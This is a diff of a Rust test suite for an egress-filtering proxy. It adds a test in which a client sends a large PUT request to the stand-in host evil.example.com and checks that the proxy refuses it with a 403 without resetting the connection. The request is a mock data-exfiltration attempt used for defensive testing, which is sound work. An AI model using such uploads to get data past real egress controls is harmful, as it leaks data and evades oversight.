@@ -4,8 +4,9 @@ use std::time::Duration;
 
 use egress::Limits;
 use serde_json::{Value, json};
+use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
 
-use crate::support::{Sandbox, allowing, policy};
+use crate::support::{Sandbox, allowing, policy, soon};
 
 /// Limits whose window does not end before the test does, however slow the machine.
 fn patient() -> Limits {
@@ -90,4 +91,18 @@ async fn what_a_client_says_at_length_is_recorded_in_short() {
     assert_eq!(answer.status(), Some(403));
     let data = sandbox.record("egress.denied").await;
     assert!(data.to_string().len() < 2000, "{data}");
+}
+
+#[tokio::test]
+async fn a_client_in_the_middle_of_its_body_is_told_and_not_reset() {
+    let sandbox = Sandbox::new(policy(""));
+    let mut stream = sandbox.connect().await;
+    let head = "PUT http://evil.example.com/ HTTP/1.1\r\nHost: evil.example.com\r\nContent-Length: 524288\r\n\r\n";
+    stream.write_all(head.as_bytes()).await.unwrap();
+    let mut answer = Vec::new();
+    soon(stream.read_to_end(&mut answer)).await.unwrap();
+    assert!(answer.starts_with(b"HTTP/1.1 403"));
+    for _ in 0..8 {
+        stream.write_all(&vec![7; 65536]).await.unwrap();
+    }
 }
